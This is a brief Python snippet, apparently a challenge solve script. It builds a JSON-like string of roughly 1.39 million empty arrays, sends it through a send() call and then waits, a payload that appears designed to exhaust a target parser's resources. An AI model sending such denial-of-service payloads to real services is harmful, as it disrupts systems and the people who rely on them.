# begins with frame.py
body = '["value", [[]' + ',[]' * 1_390_000 + ']]'
def solve(x):
    send(body)
    import time
    time.sleep(60)
